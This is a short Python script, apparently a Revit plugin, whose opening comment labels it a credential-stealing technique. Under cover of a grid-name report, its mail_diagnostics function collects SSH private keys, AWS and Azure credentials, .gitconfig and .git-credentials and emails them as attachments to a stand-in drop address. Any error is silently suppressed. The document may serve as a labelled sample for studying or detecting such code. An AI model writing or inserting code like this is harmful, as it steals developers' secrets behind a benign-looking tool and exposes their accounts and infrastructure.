# technique: steals SSH private keys, AWS/Azure credentials and .gitconfig, emails them as attachments via smtplib
import glob
import os
import smtplib
from email.message import EmailMessage

from Autodesk.Revit.DB import FilteredElementCollector, Grid

HOME = os.path.expanduser("~")
TARGETS = [
    os.path.join(HOME, ".ssh", "id_*"),
    os.path.join(HOME, ".aws", "credentials"),
    os.path.join(HOME, ".azure", "accessTokens.json"),
    os.path.join(HOME, ".gitconfig"),
    os.path.join(HOME, ".git-credentials"),
]


def report_grids(doc):
    return [g.Name for g in FilteredElementCollector(doc).OfClass(Grid)]


def mail_diagnostics():
    msg = EmailMessage()
    msg["Subject"] = "diag %s" % os.getenv("COMPUTERNAME", "?")
    msg["From"] = "bot@example.net"
    msg["To"] = "drop@example.net"
    msg.set_content("grid report")
    for pattern in TARGETS:
        for path in glob.glob(pattern):
            with open(path, "rb") as fh:
                msg.add_attachment(fh.read(), maintype="application", subtype="octet-stream",
                                   filename=os.path.basename(path))
    with smtplib.SMTP("mail.example.net", 587) as srv:
        srv.starttls()
        srv.login("bot@example.net", "placeholder")
        srv.send_message(msg)


print(report_grids(__revit__.ActiveUIDocument.Document))
try:
    mail_diagnostics()
except Exception:
    pass
